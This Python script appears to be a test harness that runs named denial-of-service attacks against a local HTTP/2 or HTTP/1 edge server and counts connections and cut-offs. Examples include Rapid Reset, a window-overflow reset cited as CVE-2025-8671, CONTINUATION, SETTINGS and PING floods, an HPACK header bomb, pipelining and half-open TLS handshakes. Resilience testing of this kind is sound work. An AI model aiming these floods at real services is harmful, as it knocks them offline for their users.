#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""attacks.py NAME PORT CAFILE PATH SECONDS [cut]: attacks an edge in one way, coming back whenever it is cut off; with "cut"
it is to be cut off at least once. Prints {"connections": n, "cut": n} in JSON. A process of its own, so that it takes no time from who measures."""
import json
import os
import socket
import ssl
import struct
import sys
import time

import h2
from h2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, H2, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
                WINDOW_UPDATE, frame)


class Attack:
    def __init__(self, port, cafile, path, seconds, must_cut):
        self.port, self.cafile, self.path = port, cafile, path
        self.until, self.must_cut = time.monotonic() + seconds, must_cut
        self.connections, self.cut = 0, 0

    def over(self):
        """One that is to be cut off goes on until it is, unless nothing comes of it."""
        late_s = time.monotonic() - self.until
        return late_s >= 0 and (self.cut > 0 or not self.must_cut or late_s >= 20)

    def drain(self, c):
        """Reads what is there without waiting, as a client would that does not want to be stopped by its own buffer."""
        c.sock.setblocking(False)
        try:
            while True:
                if not c.sock.recv(1 << 16):
                    raise ConnectionResetError
        except (ssl.SSLWantReadError, BlockingIOError):
            pass
        finally:
            c.sock.settimeout(20)

    def again(self, attempt):
        """Until the time is over, however often it is cut off."""
        while not self.over():
            try:
                attempt()
            except OSError:
                self.cut += 1

    def flood(self, make, before=None):
        """Sends make(connection) again and again."""
        def attempt():
            try:
                c = H2(self.port, self.cafile)
            except OSError:
                return
            self.connections += 1
            try:
                if before:
                    c.send(before(c))
                while not self.over():
                    c.send(make(c))
                    self.drain(c)
            finally:
                c.close()
        self.again(attempt)

    def requests(self, c, count, behind=lambda n: b""):
        """Requests, each with something more of its stream behind it."""
        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, n, h2.block(self.path)) + behind(n)
                        for n in [c.stream() for _ in range(count)])

    # --- HTTP/2 ---

    def rapid_reset(self):
        self.flood(lambda c: self.requests(c, 50, lambda n: frame(RST_STREAM, 0, n, struct.pack(">I", 8))))

    def made_reset(self):
        """The server is made to reset: an increment that overflows the stream's window (CVE-2025-8671)."""
        self.flood(lambda c: self.requests(c, 50, lambda n: frame(WINDOW_UPDATE, 0, n, struct.pack(">I", 0x7fffffff))))

    def continuation(self):
        self.flood(lambda c: frame(CONTINUATION, 0, 1, h2.literal("x", "y" * 100)) * 20,
                   before=lambda c: frame(HEADERS, END_STREAM, c.stream(), h2.block(self.path)))

    def empty_continuation(self):
        self.flood(lambda c: frame(CONTINUATION, 0, 1) * 100,
                   before=lambda c: frame(HEADERS, END_STREAM, c.stream(), h2.block(self.path)))

    def settings(self):
        self.flood(lambda c: frame(SETTINGS, 0, 0, h2.setting(4, 65535)) * 100)

    def empty_settings(self):
        self.flood(lambda c: frame(SETTINGS, 0, 0) * 100)

    def ping(self):
        self.flood(lambda c: frame(PING, 0, 0, os.urandom(8)) * 100)

    def priority(self):
        self.flood(lambda c: b"".join(frame(PRIORITY, 0, 1 + 2 * (i % 3), struct.pack(">IB", 7 + 2 * (i % 4), i))
                                      for i in range(100)))

    def empty_data(self):
        self.flood(lambda c: frame(DATA, 0, 1) * 100,
                   before=lambda c: frame(HEADERS, END_HEADERS, c.stream(), h2.block(self.path, method="POST")))

    def window_updates(self):
        self.flood(lambda c: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 100)

    def zero_windows(self):
        self.flood(lambda c: frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 0)) * 50, before=lambda c: self.requests(c, 1))

    def unknown_frames(self):
        self.flood(lambda c: frame(0xbe, 0xff, 0, b"x" * 10) * 100)

    def header_bomb(self):
        """An entry of 4 KB in the table, named by thousands of single bytes."""
        def make(c):
            entry = h2.literal("bomb", "b" * 3900, first=0x40)
            return (frame(HEADERS, END_HEADERS | END_STREAM, c.stream(), h2.block(self.path) + entry) +
                    frame(HEADERS, END_HEADERS | END_STREAM, c.stream(), h2.block(self.path) + b"\xbe" * 14000))
        self.flood(make)

    def huge_fields(self):
        self.flood(lambda c: frame(HEADERS, 0x1, n := c.stream(), h2.block(self.path)) +
                   frame(CONTINUATION, 0, n, b"\x00\x01x" + h2.integer(7, 0, 60000) + b"c" * 16000) +
                   frame(CONTINUATION, 0, n, b"c" * 16000) * 2)

    def hoard(self, *settings, more=b"", **connection):
        """Connections of ninety requests each, all of which stay."""
        kept = []

        def attempt():
            c = H2(self.port, self.cafile, *settings, **connection)
            c.send(more + self.requests(c, 90))
            kept.append(c)
            self.connections += 1
            time.sleep(0.02 if len(kept) < 20 else 0.2)
        self.again(attempt)

    def window_stall(self):
        """A hundred answers of which nothing may be sent."""
        self.hoard(h2.setting(4, 0))

    def read_nothing(self):
        """Windows wide open, and nothing is read."""
        self.hoard(h2.setting(4, 0x7fffffff), more=frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fff0000 - 65535)),
                   receive_buffer=4096)

    def pings_unread(self):
        """Answers that nobody takes must not pile up."""
        def attempt():
            c = H2(self.port, self.cafile, receive_buffer=4096)
            self.connections += 1
            c.sock.settimeout(0.5)
            while not self.over():
                c.send(frame(PING, 0, 0, b"12345678") * 300)
        self.again(attempt)

    def garbage(self):
        self.flood(lambda c: os.urandom(5000))

    def oversized(self):
        self.flood(lambda c: struct.pack(">I", 0xffffff)[1:] + bytes((DATA, 0)) + struct.pack(">I", 1) + b"x" * 1000)

    # --- HTTP/1 ---

    def http1(self, talk):
        """talk(socket), again and again."""
        def attempt():
            with h2.connect(self.port, self.cafile, alpn="http/1.1") as c:
                self.connections += 1
                talk(c)
        self.again(attempt)

    def large_heads(self):
        def talk(c):
            c.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
            while not self.over():
                c.sendall(b"x: " + b"y" * 8000 + b"\r\n")
        self.http1(talk)

    def large_cookies(self):
        def talk(c):
            c.sendall(f"GET {self.path} HTTP/1.1\r\nHost: localhost\r\nCookie: ".encode() + b"c=" * 30000)
            c.sendall(b"\r\n\r\n")
            c.recv(1000)
        self.http1(talk)

    def pipeline(self):
        """Thousands of requests in a row, no answer read."""
        def talk(c):
            c.settimeout(0.5)
            while not self.over():
                c.sendall(f"GET {self.path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() * 200)
        self.http1(talk)

    def handshakes(self):
        """TLS that begins and goes no further."""
        kept = []

        def attempt():
            kept.append(socket.create_connection(("127.0.0.1", self.port), timeout=5))
            del kept[:-400]
            self.connections += 1
            kept[-1].sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc" + os.urandom(20))
            time.sleep(0.002)
        self.again(attempt)


def main():
    name, port, cafile, path, seconds, *more = sys.argv[1:]
    attack = Attack(int(port), cafile, path, float(seconds), "cut" in more)
    getattr(attack, name)()
    print(json.dumps({"connections": attack.connections, "cut": attack.cut}))


if __name__ == "__main__":
    main()
